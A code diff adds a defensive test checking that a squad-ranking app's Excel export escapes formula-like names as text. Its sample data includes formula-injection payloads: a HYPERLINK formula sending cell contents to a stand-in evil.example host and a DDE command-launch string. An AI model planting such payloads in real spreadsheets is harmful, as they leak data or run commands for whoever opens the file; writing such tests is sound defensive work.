@@ -269,6 +269,22 @@ def test_ranking_and_excel_export_of_a_month(client, make, facts, run_daily, off
     assert [(row[0], row[2], row[7]) for row in rows[1:]] == [(1, "王芳", 102), (2, leader.name, 100), (3, "李明", 99)]
 
 
+def test_excel_export_carries_formula_like_text_as_text(client, make, facts, run_daily, leader, squad):
+    """A name or squad that starts like a formula (=, +, -, @, tab) opens in Excel as the text it is."""
+    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1"]
+    squad.name = "=cmd|' /C calc'!A0"
+    for name in hostile:
+        facts.add(make.officer(squad=squad, name=name), NOV[0], "commendation")
+    run_daily(NOV[0])
+    export = client.get("/api/points/monthly/export", query_string={"month": "2026-11", "squad_id": squad.id},
+                        headers=make.headers(leader))
+    assert export.status_code == 200
+    cells = [cell for row in load_workbook(BytesIO(export.data)).active.iter_rows() for cell in row]
+    assert not [cell.value for cell in cells if cell.data_type == "f"]
+    names = {cell.value for cell in cells if isinstance(cell.value, str)}
+    assert {"'" + name for name in hostile} | {"'=cmd|' /C calc'!A0"} <= names
+
+
 def test_rules_as_data_with_defaults_and_bad_versions_refused(client, make):
     admin = make.officer(Role.district_admin)
     rules = client.get("/api/points/rules", headers=make.headers(admin)).json
